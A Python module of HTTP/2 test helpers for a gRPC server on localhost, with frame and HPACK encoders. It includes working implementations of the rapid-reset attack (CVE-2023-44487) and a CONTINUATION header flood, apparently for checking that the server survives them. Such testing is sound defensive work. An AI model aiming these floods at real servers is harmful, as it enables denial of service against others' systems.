"""A hand-made HTTP/2 client's pieces, for tests that need frames no gRPC library sends:
windows of 0 bytes, resets at chosen moments, floods of streams."""
import socket
import struct
import threading

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_INITIAL_WINDOW_SIZE = 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK literal header field without indexing, new name, no Huffman coding."""
    def string(s):
        b = s.encode()
        assert len(b) < 127
        return bytes([len(b)]) + b
    return b"\x00" + string(name) + string(value)


def read_frame(sock):
    head = b""
    while len(head) < 9:
        chunk = sock.recv(9 - len(head))
        assert chunk, "the server closed the connection"
        head += chunk
    length = struct.unpack(">I", b"\x00" + head[:3])[0]
    payload = b""
    while len(payload) < length:
        chunk = sock.recv(length - len(payload))
        assert chunk, "the server closed the connection"
        payload += chunk
    return head[3], head[4], struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF, payload


def headers_block(port, path, extra=()):
    """The request headers of a gRPC call to path on 127.0.0.1:port, HPACK-encoded."""
    return b"".join(literal(k, v) for k, v in [
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", "127.0.0.1:%d" % port), ("content-type", "application/grpc"),
        ("te", "trailers")] + list(extra))


class _Connection:
    """A client connection whose incoming frames a thread reads and drops; closing it shuts
    the socket down (which wakes that thread) and waits for the thread."""

    def __init__(self, port, timeout):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._drain, daemon=True)
        self.reader.start()

    def _drain(self):
        try:
            while self.sock.recv(65536):
                pass
        except OSError:
            pass

    def send(self, data):
        """True when the peer took it; False when it closed or reset the connection."""
        try:
            self.sock.sendall(data)
            return True
        except (ConnectionError, BrokenPipeError):
            return False

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self.reader.join(5)


def rapid_reset(port, path, streams, extra=()):
    """HTTP/2 rapid reset (CVE-2023-44487): on one connection, HEADERS of a call to path and
    at once RST_STREAM, for `streams` streams, as fast as the socket takes them; what comes
    back is read and dropped. Returns how many streams were sent before the peer closed the
    connection (all of them if it did not); a send that stalls for 60 s raises."""
    block = headers_block(port, path, extra)
    reset = struct.pack(">I", CANCEL)
    conn = _Connection(port, 60)
    try:
        for first in range(0, streams, 200):
            last = min(first + 200, streams)
            if not conn.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
                                      frame(RST_STREAM, 0, 2 * i + 1, reset)
                                      for i in range(first, last))):
                return first
        return streams
    finally:
        conn.close()


CONTINUATION = 9


def hpack_int(value, prefix_bits):
    """An HPACK integer with a prefix of prefix_bits bits (RFC 7541, 5.1), first byte's other
    bits 0."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([value])
    out, value = [top], value - top
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    return bytes(out + [value])


def endless_header(port, path, megabytes):
    """HPACK's CONTINUATION flood (the CVE-2023-33953 class): the HEADERS of a call to path
    whose last field announces a value of `megabytes` MiB, then CONTINUATION frames of 16 KiB
    carrying it, never END_HEADERS. Returns the MiB sent before the peer closed the
    connection (all of them if it did not); a send that stalls for 60 s raises."""
    size = megabytes << 20
    block = headers_block(port, path) + b"\x00" + hpack_int(5, 7) + b"x-big" + hpack_int(size, 7)
    piece = frame(CONTINUATION, 0, 1, b"a" * 16384)
    conn = _Connection(port, 60)
    try:
        if not conn.send(frame(HEADERS, 0, 1, block)):
            return 0
        for k in range(size // 16384):
            if not conn.send(piece):
                return (k * 16384) >> 20
        return megabytes
    finally:
        conn.close()
